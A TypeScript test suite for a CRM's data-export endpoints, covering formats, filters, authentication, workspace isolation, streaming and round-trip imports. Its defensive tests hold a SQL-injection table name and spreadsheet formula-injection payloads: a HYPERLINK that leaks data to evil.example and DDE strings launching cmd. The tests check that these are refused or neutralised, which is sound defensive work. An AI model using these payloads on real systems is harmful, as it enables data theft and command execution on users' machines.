import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import yauzl from "yauzl";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Database } from "../../src/entities/database.js";
import { openParsedFile } from "../../src/import/parse/open-file.js";
import type { CellValue } from "../../src/import/parse/parser.js";
import { startTestServer, type TestServer, type TestWorkspace } from "../helpers/test-server.js";
import { expectCountsAddUp, jobErrors, startImport, waitForJob } from "../helpers/upload.js";

let t: TestServer;
let ws: TestWorkspace;
let other: TestWorkspace;
let scratch: string;
let customerJobId: string;
let files = 0;

const ENTITIES = ["customers", "interactions", "transactions"] as const;
const FORMATS = ["csv", "xlsx", "ndjson", "json", "xml", "sql"] as const;
const IMPORT_ENTITY = { customers: "CUSTOMER", interactions: "INTERACTION", transactions: "TRANSACTION" } as const;

const csv = (lines: string[]): string => lines.join("\r\n");

// Chinese names, tags on each separator, custom fields, phones in several forms, country names
const CUSTOMERS = csv([
  "externalId,firstName,lastName,email,phone,company,jobTitle,city,country,tags,createdAt,customFields.会员等级,customFields.balance,customFields.note",
  "C001,小明,王,Wang@Example.CN,138 0013 8000,北京字节跳动,产品经理,北京,中国,vip、新客户,2023-01-15 09:30,金卡,-12.50,",
  'C002,Ann,"O\'Brien, ""Jr""",ann@example.co.uk,+44 20 7946 0958,"Acme, Ltd.",Head of Sales,London,United Kingdom,wholesale; vip,2022-06-01T08:00:00.123Z,,+5,"line one\nline two"',
  "C003,娜,李,,13900139000 转 123,,,上海,德国,,,,,",
  "C004,Ümit,Özdemir,umit@example.de,,Müller GmbH,Geschäftsführer,München,Germany,b2b,2021-02-03,银卡,,",
  "C005,,,solo@example.com,,,,,,,2020-01-01T00:00:00Z,,0.001,Grüße 😀",
]);

const INTERACTIONS = csv([
  "externalId,customerExternalId,customerEmail,type,direction,subject,body,occurredAt",
  'I1,C001,,call,inbound,回访,"第一行\n第二行, with a comma",2024-03-05 10:00',
  'I2,C002,,email,outbound,"Re: ""quote""",Hi 😀,2024-03-06T11:22:33.456Z',
  "I3,C003,,meeting,,,,2024-03-07",
  "I4,,umit@example.de,note,,Notiz,Ä Ö Ü ß,2024-03-08T23:59:59Z",
]);

const TRANSACTIONS = csv([
  "externalId,customerExternalId,customerEmail,kind,status,amount,currency,occurredAt,description",
  'T1,C001,,,paid,"¥1,234.50",,2024-03-05 10:00,会员年费',
  "T2,C001,,,completed,-200.00,CNY,2024-03-06 11:00,退款",
  "T3,C002,,purchase,pending,99.9999,GBP,2024-03-07,",
  "T4,,umit@example.de,payment,failed,0.5,EUR,2024-03-08,Rabatt",
  "T5,C005,,purchase,completed,12345678901234.5678,USD,2024-03-09T12:00:00.001Z,big",
]);

beforeAll(async () => {
  t = await startTestServer({ logLevel: process.env.TEST_LOG_LEVEL ?? "silent" });
  scratch = await mkdtemp(join(tmpdir(), "export-test-"));
  ws = await t.workspace("export");
  other = await t.workspace("export-other");
  const key = ws.keys.IMPORTER;
  customerJobId = await startImport(t, key, { entity: "CUSTOMER", options: { defaultCountry: "CN" } }, { name: "customers.csv", content: CUSTOMERS });
  expect(await waitForJob(t, key, customerJobId)).toMatchObject({ status: "COMPLETED", insertedCount: 5, failedCount: 0 });
  for (const [entity, content] of [
    ["INTERACTION", INTERACTIONS],
    ["TRANSACTION", TRANSACTIONS],
  ] as const) {
    const job = await waitForJob(t, key, await startImport(t, key, { entity }, { name: `${entity}.csv`, content }));
    expect(job).toMatchObject({ status: "COMPLETED", insertedCount: 4 + Number(entity === "TRANSACTION"), failedCount: 0 });
  }
  // a customer of another workspace, which no export of `ws` may show
  const job = await waitForJob(
    t,
    other.keys.IMPORTER,
    await startImport(
      t,
      other.keys.IMPORTER,
      { entity: "CUSTOMER" },
      { name: "other.csv", content: "externalId,email,country,tags\nX1,x@other.example,CN,vip" },
    ),
  );
  expect(job.insertedCount).toBe(1);
});

afterAll(async () => {
  await t?.stop();
  if (scratch) await rm(scratch, { recursive: true, force: true });
});

const get = (key: string | null, path: string): Promise<Response> => fetch(`${t.url}${path}`, { headers: key ? { authorization: `Bearer ${key}` } : {} });

const download = async (key: string, path: string): Promise<{ res: Response; bytes: Buffer }> => {
  const res = await get(key, path);
  const bytes = Buffer.from(await res.arrayBuffer());
  expect(res.status, bytes.toString("utf8").slice(0, 500)).toBe(200);
  return { res, bytes };
};

const saved = async (bytes: Buffer, name: string): Promise<string> => {
  const path = join(scratch, `${++files}-${name}`);
  await writeFile(path, bytes);
  return path;
};

/** An export read back with the importer's own parsers. */
const parse = async (bytes: Buffer, name: string): Promise<{ headers: readonly string[]; rows: Record<string, CellValue>[] }> => {
  const parsed = await openParsedFile({ path: await saved(bytes, name), fileName: name, options: {} });
  const rows: Record<string, CellValue>[] = [];
  for await (const record of parsed.records()) rows.push({ ...record.values });
  return { headers: parsed.headers, rows };
};

/** An export of no rows: nothing (CSV, NDJSON, XLSX read as such), an empty array, an empty root, no INSERT. */
const noRows = (format: string, bytes: Buffer): boolean => {
  const body = bytes.toString("utf8");
  return (
    bytes.length === 0 ||
    (format === "json" && /^\[\s*\]\s*$/.test(body)) ||
    (format === "xml" && !/<(customer|interaction|transaction)>/.test(body)) ||
    (format === "sql" && !body.includes("INSERT INTO"))
  );
};

const exported = async (key: string, entity: string, format: string, query = "") => {
  const { res, bytes } = await download(key, `/export/${entity}.${format}${query}`);
  return { res, bytes, ...(noRows(format, bytes) ? { headers: [], rows: [] } : await parse(bytes, `${entity}.${format}`)) };
};

const externalIds = (rows: Record<string, CellValue>[]): string[] => rows.map((r) => String(r.externalId)).sort();

/** Every row of the three tables, bookkeeping columns included: a re-import that changes nothing leaves this as it was. */
const snapshot = async (workspaceId: string) => {
  const sql = t.server.db.sql;
  const all = (table: string) => sql.query(`select * from ${table} where workspace_id = $1 order by id`, [workspaceId]);
  return { customers: await all("customer"), interactions: await all("interaction"), transactions: await all(`"transaction"`) };
};

const text = (value: CellValue | undefined): string => (value === null || value === undefined ? "" : Array.isArray(value) ? value.join(", ") : String(value));

describe("export contents", () => {
  it.each(FORMATS)("customers.%s: import field names as columns, one column per custom field key, normalized values", async (format) => {
    const { res, headers, rows } = await exported(ws.keys.VIEWER, "customers", format);
    expect(res.headers.get("content-disposition")).toMatch(new RegExp(`^attachment; filename="customers-\\d{4}-\\d{2}-\\d{2}\\.${format}"$`));
    expect(headers).toEqual([
      "externalId",
      "firstName",
      "lastName",
      "email",
      "phone",
      "company",
      "jobTitle",
      "city",
      "country",
      "tags",
      "createdAt",
      "customFields.balance",
      "customFields.note",
      "customFields.会员等级",
    ]);
    expect(externalIds(rows)).toEqual(["C001", "C002", "C003", "C004", "C005"]);
    const byId = Object.fromEntries(rows.map((r) => [r.externalId, r]));
    expect(byId.C001).toMatchObject({
      firstName: "小明",
      lastName: "王",
      email: "wang@example.cn",
      phone: "+8613800138000",
      country: "CN",
      createdAt: "2023-01-15T09:30:00.000Z",
      "customFields.会员等级": "金卡",
      "customFields.balance": "-12.50",
    });
    expect(text(byId.C001!.tags)).toBe("vip, 新客户");
    expect(byId.C002).toMatchObject({
      lastName: `O'Brien, "Jr"`,
      phone: "+442079460958",
      company: "Acme, Ltd.",
      country: "GB",
      createdAt: "2022-06-01T08:00:00.123Z",
      "customFields.balance": "+5",
      "customFields.note": "line one\nline two",
    });
    expect(text(byId.C002!.tags)).toBe("wholesale, vip");
    expect(byId.C003).toMatchObject({ phone: "+8613900139000;ext=123", country: "DE" });
    expect(String(byId.C003!.createdAt)).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    expect(byId.C005).toMatchObject({ "customFields.note": "Grüße 😀", "customFields.balance": "0.001" });
    if (format === "ndjson") {
      // data, not text: tags stay a list, empty values are null
      expect(byId.C001!.tags).toEqual(["vip", "新客户"]);
      expect(byId.C005).toMatchObject({ firstName: null, tags: [] });
    }
  });

  it.each(FORMATS)("interactions.%s: linked by the customer's external id and email", async (format) => {
    const { headers, rows } = await exported(ws.keys.VIEWER, "interactions", format);
    expect(headers).toEqual(["externalId", "customerExternalId", "customerEmail", "type", "direction", "subject", "body", "occurredAt"]);
    const byId = Object.fromEntries(rows.map((r) => [r.externalId, r]));
    expect(externalIds(rows)).toEqual(["I1", "I2", "I3", "I4"]);
    expect(byId.I1).toMatchObject({
      customerExternalId: "C001",
      customerEmail: "wang@example.cn",
      type: "CALL",
      direction: "INBOUND",
      subject: "回访",
      body: "第一行\n第二行, with a comma",
      occurredAt: "2024-03-05T10:00:00.000Z",
    });
    expect(byId.I2).toMatchObject({ subject: 'Re: "quote"', occurredAt: "2024-03-06T11:22:33.456Z" });
    expect(byId.I4).toMatchObject({ customerExternalId: "C004", customerEmail: "umit@example.de", type: "NOTE", body: "Ä Ö Ü ß" });
  });

  it.each(FORMATS)("transactions.%s: exact decimal amounts, ISO currencies, UTC times", async (format) => {
    const { headers, rows } = await exported(ws.keys.VIEWER, "transactions", format);
    expect(headers).toEqual(["externalId", "customerExternalId", "customerEmail", "kind", "status", "amount", "currency", "occurredAt", "description"]);
    const byId = Object.fromEntries(rows.map((r) => [r.externalId, r]));
    expect(externalIds(rows)).toEqual(["T1", "T2", "T3", "T4", "T5"]);
    expect(byId.T1).toMatchObject({ kind: "PURCHASE", status: "COMPLETED", amount: "1234.50", currency: "CNY", description: "会员年费" });
    expect(byId.T2).toMatchObject({ kind: "REFUND", amount: "200.00" });
    expect(byId.T3).toMatchObject({ status: "PENDING", amount: "99.9999", currency: "GBP" });
    expect(byId.T5).toMatchObject({ amount: "12345678901234.5678", occurredAt: "2024-03-09T12:00:00.001Z" });
  });

  it("sends each format with its content type; CSV starts with a UTF-8 BOM and ends lines with CRLF", async () => {
    const types = {
      csv: "text/csv; charset=utf-8",
      xlsx: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
      ndjson: "application/x-ndjson; charset=utf-8",
      json: "application/json; charset=utf-8",
      xml: "application/xml; charset=utf-8",
      sql: "application/sql; charset=utf-8",
    };
    for (const format of FORMATS) {
      const { res, bytes } = await download(ws.keys.VIEWER, `/export/transactions.${format}`);
      expect(res.headers.get("content-type")).toBe(types[format]);
      expect(res.headers.get("cache-control")).toBe("no-store");
      if (format === "csv") {
        expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
        expect(bytes.toString("utf8")).toMatch(/^\uFEFFexternalId,customerExternalId,[^\n]*description\r\nT1,/);
      }
      if (format === "xlsx") expect(bytes.subarray(0, 2).toString("latin1")).toBe("PK");
      if (format === "ndjson")
        expect(
          bytes
            .toString("utf8")
            .trimEnd()
            .split("\n")
            .map((l) => JSON.parse(l).externalId),
        ).toEqual(["T1", "T2", "T3", "T4", "T5"]);
      if (format === "json")
        expect((JSON.parse(bytes.toString("utf8")) as { externalId: string }[]).map((r) => r.externalId)).toEqual(["T1", "T2", "T3", "T4", "T5"]);
      if (format === "xml") {
        const body = bytes.toString("utf8");
        expect(body).toMatch(
          /^<\?xml version="1\.0" encoding="UTF-8"\?>\n<transactions>\n<transaction><externalId>T1<\/externalId><customerExternalId>C001<\/customerExternalId><customerEmail>wang@example.cn<\/customerEmail><kind>PURCHASE<\/kind>/,
        );
        expect(body.match(/<transaction>/g)).toHaveLength(5);
        expect(body).toMatch(/<\/transactions>\n$/);
      }
      if (format === "sql") {
        const body = bytes.toString("utf8");
        expect(body).toContain('CREATE TABLE IF NOT EXISTS "transactions" (\n    "externalId" text,');
        expect(body).toContain(
          `INSERT INTO "transactions" ("externalId", "customerExternalId", "customerEmail", "kind", "status", "amount", "currency", "occurredAt", "description") VALUES\n('T1', 'C001', 'wang@example.cn', 'PURCHASE'`,
        );
        expect(body).toMatch(/\);\n$/);
      }
    }
  });

  it("writes a custom field key with a space as an escaped XML name that imports back as the key", async () => {
    const sws = await t.workspace("export-xml-names");
    const content = "externalId,email,customFields.VIP level,customFields.a_x0041_b\nK1,k1@example.com,gold,literal\n";
    const job = await waitForJob(t, sws.keys.IMPORTER, await startImport(t, sws.keys.IMPORTER, { entity: "CUSTOMER" }, { name: "k.csv", content }));
    expect(job).toMatchObject({ insertedCount: 1, failedCount: 0 });
    const { bytes, headers, rows } = await exported(sws.keys.VIEWER, "customers", "xml");
    expect(bytes.toString("utf8")).toContain(
      "<customFields.VIP_x0020_level>gold</customFields.VIP_x0020_level><customFields.a_x005F_x0041_b>literal</customFields.a_x005F_x0041_b>",
    );
    expect(headers).toContain("customFields.VIP level");
    expect(rows[0]).toMatchObject({ "customFields.VIP level": "gold", "customFields.a_x0041_b": "literal" });
  });

  it("names the SQL table after the entity or the table parameter, quoted", async () => {
    const renamed = (await download(ws.keys.VIEWER, "/export/customers.sql?table=crm_clients&country=CN")).bytes.toString("utf8");
    expect(renamed).toContain('INSERT INTO "crm_clients" ("externalId"');
    expect(renamed).not.toContain('"customers"');
    const { headers, rows } = await parse(Buffer.from(renamed), "clients.sql");
    expect(headers[0]).toBe("externalId");
    expect(rows.map((r) => r.country)).toEqual(rows.map(() => "CN"));
  });

  it.each([
    ["/export/customers.sql?table=x%3B%20DROP%20TABLE%20customer", "table"],
    ["/export/customers.sql?table=%22q%22", "table"],
    ["/export/customers.sql?table=" + "a".repeat(64), "table"],
    ["/export/customers.sql?table=a&table=b", "table"],
    ["/export/customers.csv?table=customers", "table"],
  ])("refuses %s with a coded 400", async (path, field) => {
    const res = await get(ws.keys.VIEWER, path);
    expect(res.status).toBe(400);
    expect(((await res.json()) as any).errors[0].extensions).toMatchObject({ code: "BAD_USER_INPUT", field });
  });
});

describe("filters: the customers query's, as URL parameters", () => {
  const ids = async (entity: string, query: string) => externalIds((await exported(ws.keys.VIEWER, entity, "ndjson", query)).rows);

  it.each([
    ["?country=CN", ["C001"]],
    ["?country=de", ["C003", "C004"]],
    ["?tags=vip", ["C001", "C002"]],
    ["?tags=b2b,新客户", ["C001", "C004"]],
    ["?tags=b2b&tags=wholesale", ["C002", "C004"]],
    [`?search=${encodeURIComponent("王")}`, ["C001"]],
    ["?search=ACME", ["C002"]],
    ["?search=solo@", ["C005"]],
    ["?createdAfter=2023-01-01T00:00:00Z", ["C001", "C003"]],
    // an offset's "+" sent unencoded arrives as a space
    ["?createdAfter=2023-01-15T17:30:00+08:00", ["C003"]],
    ["?createdAfter=2023-01-15T17:29:00%2B08:00", ["C001", "C003"]],
    ["?country=DE&tags=b2b", ["C004"]],
    ["?country=FR", []],
  ])("customers%s", async (query, expected) => {
    expect(await ids("customers", query)).toEqual(expected);
  });

  it("importJobId: the customers an import created or last updated", async () => {
    expect(await ids("customers", `?importJobId=${encodeURIComponent(customerJobId)}`)).toEqual(["C001", "C002", "C003", "C004", "C005"]);
    const job = await waitForJob(
      t,
      ws.keys.IMPORTER,
      await startImport(t, ws.keys.IMPORTER, { entity: "CUSTOMER" }, { name: "no-op.csv", content: "externalId,city\nC004,München" }),
    );
    expect(job).toMatchObject({ unchangedCount: 1 });
    expect(await ids("customers", `?importJobId=${encodeURIComponent(job.id)}`)).toEqual([]);
  });

  it.each([
    ["interactions", "?country=GB", ["I2"]],
    ["interactions", "?tags=vip", ["I1", "I2"]],
    ["interactions", "?search=umit", ["I4"]],
    ["transactions", "?tags=vip", ["T1", "T2", "T3"]],
    ["transactions", "?country=DE", ["T4"]],
    ["transactions", "?createdAfter=2023-01-01T00:00:00Z", ["T1", "T2"]],
  ])("%s%s: the filter applies to their customer", async (entity, query, expected) => {
    expect(await ids(entity, query)).toEqual(expected);
  });

  it.each([
    ["/export/customers.csv?country=China", "country"],
    ["/export/customers.csv?createdAfter=2023-01-01", "createdAfter"],
    ["/export/customers.csv?createdAfter=yesterday", "createdAfter"],
    ["/export/interactions.ndjson?importJobId=not-an-id", "importJobId"],
    [`/export/customers.csv?importJobId=${Buffer.from("Customer:1").toString("base64url")}`, "importJobId"],
    ["/export/customers.xlsx?tag=vip", "tag"],
    ["/export/customers.csv?search=a&search=b", "search"],
  ])("%s is a coded 400", async (path, field) => {
    const res = await get(ws.keys.VIEWER, path);
    expect(res.status).toBe(400);
    const body = (await res.json()) as { errors: { extensions: unknown; message: string }[] };
    expect(body.errors[0]!.extensions).toEqual({ code: "BAD_USER_INPUT", field });
    expect(body.errors[0]!.message).toMatch(new RegExp(field));
  });

  it.each(["/export/customers.pdf", "/export/leads.csv", "/export/customers", "/export/customers.csv/x"])("%s is a coded 404", async (path) => {
    const res = await get(ws.keys.VIEWER, path);
    expect(res.status).toBe(404);
    expect(((await res.json()) as any).errors[0].extensions.code).toBe("NOT_FOUND");
  });
});

describe("authentication and workspaces", () => {
  it.each(ENTITIES)("%s: no key or a wrong key is a coded 401", async (entity) => {
    for (const key of [null, "crm_not_a_real_key"]) {
      const res = await get(key, `/export/${entity}.csv`);
      expect(res.status).toBe(401);
      expect(((await res.json()) as any).errors[0].extensions.code).toBe("UNAUTHENTICATED");
    }
  });

  it.each(["ADMIN", "IMPORTER", "VIEWER"] as const)("any role may export (%s)", async (role) => {
    expect(externalIds((await exported(ws.keys[role], "customers", "csv")).rows)).toHaveLength(5);
  });

  it.each(FORMATS)("another workspace's key sees none of the rows (%s)", async (format) => {
    for (const entity of ENTITIES) {
      const { rows, bytes } = await exported(other.keys.ADMIN, entity, format);
      expect(externalIds(rows)).toEqual(entity === "customers" ? ["X1"] : []);
      if (format !== "xlsx") expect(bytes.toString("utf8")).not.toMatch(/"?(C00[1-5]|I[1-4]|T[1-5])"?,|wang@example|umit@example/);
    }
    expect(externalIds((await exported(ws.keys.VIEWER, "customers", format, "?tags=vip")).rows)).not.toContain("X1");
  });
});

describe("formulas: neutralised where a spreadsheet would run them", () => {
  let fws: TestWorkspace;
  const HOSTILE = {
    company: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    firstName: "@SUM(1+1)*cmd|' /C calc'!A0",
    lastName: "+cmd|' /C calc'!A0",
    jobTitle: "-2+3+cmd|' /C calc'!A0",
    city: "=1+1",
  };

  beforeAll(async () => {
    fws = await t.workspace("export-formulas");
    const content = csv([
      "externalId,company,firstName,lastName,jobTitle,city,phone,customFields.balance,customFields.score",
      `F1,${Object.values(HOSTILE)
        .map((v) => `"${v.replace(/"/g, '""')}"`)
        .join(",")},+44 20 7946 0958,-12.50,1e-3`,
      "F2,Plain,,,,,+8613800138000,+5,",
    ]);
    const job = await waitForJob(t, fws.keys.IMPORTER, await startImport(t, fws.keys.IMPORTER, { entity: "CUSTOMER" }, { name: "f.csv", content }));
    expect(job).toMatchObject({ insertedCount: 2, failedCount: 0 });
  });

  it("CSV: a leading quote before = + - @; plain numbers and E.164 phones stay as they are", async () => {
    const { bytes, rows } = await exported(fws.keys.VIEWER, "customers", "csv");
    const f1 = rows.find((r) => r.externalId === "F1")!;
    for (const [field, value] of Object.entries(HOSTILE)) expect(f1[field]).toBe(`'${value}`);
    expect(f1).toMatchObject({ phone: "+442079460958", "customFields.balance": "-12.50", "customFields.score": "1e-3" });
    const body = bytes.toString("utf8");
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
    expect(body).not.toMatch(/(^|,)[=+\-@][^0-9]/m);
    expect(body).toContain(",+8613800138000,Plain,");
    expect(body).toMatch(/,\+5,\r\n$/);
  });

  it("XLSX: inline strings only, never a formula, values as they are", async () => {
    const { bytes, rows } = await exported(fws.keys.VIEWER, "customers", "xlsx");
    expect(rows.find((r) => r.externalId === "F1")).toMatchObject(HOSTILE);
    const sheet = await zipPart(bytes, "xl/worksheets/sheet1.xml");
    expect(sheet).not.toMatch(/<f[ >]/);
    expect(sheet).toContain('t="inlineStr"><is><t>=HYPERLINK(');
  });

  it.each(["ndjson", "json", "xml", "sql"] as const)("%s: data, not prefixed", async (format) => {
    const { rows } = await exported(fws.keys.VIEWER, "customers", format);
    expect(rows.find((r) => r.externalId === "F1")).toMatchObject({ ...HOSTILE, phone: "+442079460958" });
  });

  it.each(FORMATS)("formula-looking text round-trips through %s unchanged", async (format) => {
    const { bytes } = await download(fws.keys.VIEWER, `/export/customers.${format}`);
    const job = await waitForJob(
      t,
      fws.keys.IMPORTER,
      await startImport(t, fws.keys.IMPORTER, { entity: "CUSTOMER" }, { name: `c.${format}`, content: bytes }),
    );
    expect(job).toMatchObject({ status: "COMPLETED", insertedCount: 0, updatedCount: 0, failedCount: 0, unchangedCount: 2 });
  });
});

const zipPart = async (bytes: Buffer, name: string): Promise<string> => {
  const zip = await yauzl.fromBufferPromise(bytes);
  for await (const entry of zip.eachEntry()) {
    if (entry.fileName !== name) continue;
    const chunks: Buffer[] = [];
    for await (const chunk of await zip.openReadStreamPromise(entry)) chunks.push(chunk as Buffer);
    return Buffer.concat(chunks).toString("utf8");
  }
  throw new Error(`no ${name} in the workbook`);
};

describe("round trip: every export imports back with no mapping and changes nothing", () => {
  const ROWS = { customers: 5, interactions: 4, transactions: 5 };

  it.each(ENTITIES.flatMap((entity) => FORMATS.map((format) => [entity, format] as const)))("%s.%s", async (entity, format) => {
    const before = await snapshot(ws.id);
    const { bytes } = await download(ws.keys.VIEWER, `/export/${entity}.${format}`);
    const { headers } = await parse(bytes, `${entity}.${format}`);
    // no mapping, no options: the headers map onto themselves
    const id = await startImport(t, ws.keys.IMPORTER, { entity: IMPORT_ENTITY[entity] }, { name: `${entity}.${format}`, content: bytes });
    const job = await waitForJob(t, ws.keys.IMPORTER, id);
    expect(await jobErrors(t, ws.keys.IMPORTER, id)).toEqual([]);
    expect(job).toMatchObject({
      status: "COMPLETED",
      processedRows: ROWS[entity],
      insertedCount: 0,
      updatedCount: 0,
      skippedCount: 0,
      failedCount: 0,
      unchangedCount: ROWS[entity],
    });
    expect(expectCountsAddUp(job)).toBe(true);
    expect(job.mapping).toEqual(headers.map((h) => ({ source: h, target: h })));
    expect(await snapshot(ws.id)).toEqual(before);
  });
});

describe("streaming", () => {
  const BULK = 30_000;
  let bulk: TestWorkspace;

  beforeAll(async () => {
    bulk = await t.workspace("export-bulk");
    // about 2 KB a row, so the export outgrows the socket buffers many times over
    await t.server.db.sql.query(
      `insert into customer (workspace_id, external_id, first_name, last_name, email, tags, custom_fields)
       select $1, 'B' || g, 'First ' || g, repeat('x', 2000), 'b' || g || '@example.com', '{bulk}', jsonb_build_object('n', g::text)
         from generate_series(1, $2::int) g`,
      [bulk.id, BULK],
    );
  });

  /** Counts the export page queries while fn runs; `failAt` makes that page's query fail. */
  const countingPages = async (fn: () => Promise<void>, failAt = 0): Promise<number> => {
    // exports read through the caller's workspace-scoped client
    const db = t.server.db as { scoped: Database["scoped"] };
    const scoped = db.scoped;
    let pages = 0;
    db.scoped = (workspaceId) => {
      const sql = scoped.call(t.server.db, workspaceId);
      const query = ((text: string, params?: readonly unknown[]) => {
        if (/from customer where .* order by id limit/s.test(text) && ++pages === failAt) return Promise.reject(new Error("connection lost"));
        return sql.query(text, params);
      }) as typeof sql.query;
      return { ...sql, query };
    };
    try {
      await fn();
    } finally {
      db.scoped = scoped;
    }
    return pages;
  };

  it("a failing first query is a coded 500, before any byte of the file", async () => {
    await countingPages(async () => {
      const res = await get(bulk.keys.VIEWER, "/export/customers.csv");
      expect(res.status).toBe(500);
      expect(((await res.json()) as any).errors[0]).toEqual({ message: "Internal server error", extensions: { code: "INTERNAL_SERVER_ERROR" } });
    }, 1);
  });

  it.each(FORMATS)("a query failing mid-stream cuts the download instead of ending the file (%s)", async (format) => {
    await countingPages(async () => {
      const res = await get(bulk.keys.VIEWER, `/export/customers.${format}`);
      expect(res.status).toBe(200);
      await expect(res.arrayBuffer()).rejects.toThrow();
    }, 3);
  });

  it("pages through every row once, in id order, across page boundaries", async () => {
    let lines: string[] = [];
    const pages = await countingPages(async () => {
      const { bytes } = await download(bulk.keys.VIEWER, "/export/customers.ndjson");
      lines = bytes.toString("utf8").trimEnd().split("\n");
    });
    expect(lines).toHaveLength(BULK);
    const ids = lines.map((l) => JSON.parse(l).externalId as string);
    expect(new Set(ids).size).toBe(BULK);
    expect(ids[0]).toBe("B1");
    expect(ids.at(-1)).toBe(`B${BULK}`);
    expect(pages).toBe(Math.ceil(BULK / 5000) + (BULK % 5000 === 0 ? 1 : 0));
  });

  it.each(FORMATS)("a client that goes away stops the queries (%s)", async (format) => {
    const pages = await countingPages(async () => {
      const abort = new AbortController();
      const res = await fetch(`${t.url}/export/customers.${format}`, { headers: { authorization: `Bearer ${bulk.keys.VIEWER}` }, signal: abort.signal });
      expect(res.status).toBe(200);
      const reader = res.body!.getReader();
      await reader.read();
      abort.abort();
      await reader.cancel().catch(() => undefined);
      await new Promise((r) => setTimeout(r, 1000));
    });
    expect(pages).toBeGreaterThanOrEqual(1);
    expect(pages).toBeLessThan(Math.ceil(BULK / 5000));
    // the server is still fine
    expect((await get(bulk.keys.VIEWER, "/export/customers.csv?country=CN")).status).toBe(200);
  });
});
